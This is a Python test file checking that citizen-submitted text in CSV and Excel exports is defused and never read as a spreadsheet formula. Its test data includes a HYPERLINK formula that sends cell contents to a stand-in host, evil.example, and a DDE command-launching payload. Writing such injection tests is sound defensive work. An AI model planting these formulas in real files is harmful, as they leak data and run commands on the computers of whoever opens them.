"""What citizens wrote never becomes a formula in anybody's table."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.orders.builders import MORNING, City, submitted
from tests.orders.exports.ground import sheets, table
from yihao.orders.exports import rules

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@given(st.text(max_size=40))
@example("  =1+1")
@example("＝1+1")
@example("\t=cmd|' /C calc'!A0")
def test_no_programme_takes_a_defused_text_for_a_formula(text: str) -> None:
    shown = rules.defused(text)
    assert not shown.lstrip(" ").startswith(tuple("=+-@＝＋－＠\r\n"))
    assert shown.startswith("\t") <= (shown[1:].isdecimal() and len(shown) > 15)
    assert text in shown


@given(st.text(max_size=40000))
def test_a_cell_of_a_workbook_is_never_too_long(text: str) -> None:
    assert len(rules.cell(text)) <= 32_767


@pytest.mark.django_db(databases=["default", "side"])
def test_in_a_csv_it_is_text(city: City) -> None:
    submitted(city, title=EVIL)
    (row,) = table(city.dispatcher)
    assert row["标题"] == f"'{EVIL}"


@pytest.mark.django_db(databases=["default", "side"])
def test_in_a_workbook_it_is_text_and_stays_text(city: City) -> None:
    submitted(city, title=EVIL)
    _, (head, row) = sheets(city.dispatcher)
    assert row[head.index("标题")] == EVIL


def test_the_cell_is_a_string_with_the_quote(tmp_path: Path) -> None:
    from yihao.orders.exports.files import write_csv, write_xlsx
    from yihao.orders.exports.values import Column, ColumnSet, Cover

    columns = ColumnSet("x", "列", (Column("title", "标题"),))
    cover = Cover("甲", "派单员", MORNING.replace(tzinfo=None), "统计分析", (), "DC-1")
    write_xlsx(tmp_path / "a.xlsx", columns=columns, cover=cover, lines=[("用途", "=1+1")], rows=iter([[EVIL]]))
    found = load_workbook(tmp_path / "a.xlsx")["工单"]["A2"]
    assert (found.data_type, found.value, found.quotePrefix) in (("s", EVIL, True), ("inlineStr", EVIL, True))
    write_csv(tmp_path / "a.csv", columns=columns, cover=cover, rows=iter([['两行\n文字，有"引号"']]))
    body = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(body, newline="")))[1][0] == '两行\n文字，有"引号"'
